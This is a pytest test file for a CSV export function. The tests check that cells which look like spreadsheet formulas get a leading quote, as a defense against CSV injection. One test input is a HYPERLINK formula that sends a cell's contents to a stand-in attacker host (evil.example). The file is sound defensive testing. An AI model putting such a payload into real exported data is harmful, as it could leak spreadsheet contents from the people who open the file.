"""Pure: a CSV cell a spreadsheet would run as a formula is exported as text (OWASP CSV injection)."""

import csv
import io

import pytest

from assistant.safety.review import as_csv, csv_cell


@pytest.mark.parametrize("value", ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
                                   "\t=1+1", "\r=1+1", "=", "-"])
def test_a_cell_starting_like_a_formula_gets_a_quote_in_front(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain text", "", " =1+1", "1-2", "a=b", None, 5, -5, 1.5, -1.5])
def test_anything_else_is_unchanged(value):
    assert csv_cell(value) == value


def test_the_csv_export_neutralises_every_field_and_lists():
    row = {"id": 1, "request": "=1+1", "reply": "@cmd", "rule_ids": ["-R1", "R2"], "note": "+x", "latency_ms": -0.0}
    (parsed,) = csv.DictReader(io.StringIO("".join(as_csv(iter([row])))))
    assert (parsed["request"], parsed["reply"], parsed["rule_ids"], parsed["note"]) == ("'=1+1", "'@cmd", "'-R1;R2", "'+x")
    assert parsed["latency_ms"] == "-0.0"  # numbers are numbers, not formulas
